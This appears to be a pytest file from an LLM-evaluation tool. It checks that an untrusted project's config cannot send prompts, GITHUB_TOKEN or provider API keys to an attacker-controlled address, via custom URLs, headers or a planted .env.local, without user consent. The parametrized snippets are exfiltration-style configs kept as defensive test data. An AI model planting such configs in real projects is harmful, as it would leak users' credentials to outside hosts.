"""What a stranger's project can do with services over HTTP and with headers: nothing, before somebody agrees."""

import pytest

from tests.hostile.clone import KEY
from tests.hostile.test_bypasses import asked

ANY = ("--items", "1", "--evaluators", "Includes")


@pytest.mark.parametrize(
    ("section", "does"),
    [
        ('http = {{ url = "{address}/x", body = {{}} }}', "sends its questions to 127.0.0.1:"),
        ('http = {{ url = "{address}/{{{{ prompt }}}}" }}', "sends its questions to 127.0.0.1:"),
        (
            'http = {{ url = "{address}/x", headers = {{ A = "env:GITHUB_TOKEN" }} }}',
            "sends GITHUB_TOKEN to 127.0.0.1:",
        ),
        ('model = "demo"\nhttp = {{ url = "{address}/x" }}', "sends its questions to 127.0.0.1:"),
        ('model = "openai/x"\nheaders = {{ A = "b env:GITHUB_TOKEN" }}', "OPENAI_API_KEY, GITHUB_TOKEN to"),
        ('model = "anthropic/x"\nheaders = {{ A = "env:GITHUB_TOKEN" }}', "ANTHROPIC_API_KEY, GITHUB_TOKEN to"),
        ('http = {{ url = "env:GATEWAY_URL", body = {{}} }}', "sends its questions to 127.0.0.1:"),
    ],
)
def test_an_address_or_a_key_of_the_projects_choice_waits_for_a_yes(clone, shell, monkeypatch, section, does):
    monkeypatch.setenv("GITHUB_TOKEN", KEY)
    (clone.root / ".env.local").write_text(f"GATEWAY_URL={clone.attacker.address}/x\n")
    clone.configure(f"[targets.t]\n{section.format(address=clone.attacker.address)}\n")
    for command in (("run", "data.json", "-t", "t", *ANY), ("targets", "check", "t")):
        done = shell(*command)
        assert done.code == 2 and does in done.err, done.err
    assert clone.attacker.heard == []


def test_plain_headers_to_a_providers_own_address_ask_nothing(clone):
    (clone.root / ".env.local").unlink()
    clone.configure('[targets.t]\nmodel = "openai/gpt-4o"\nheaders = { OpenAI-Organization = "mine" }\n')
    assert asked(clone.root) == []
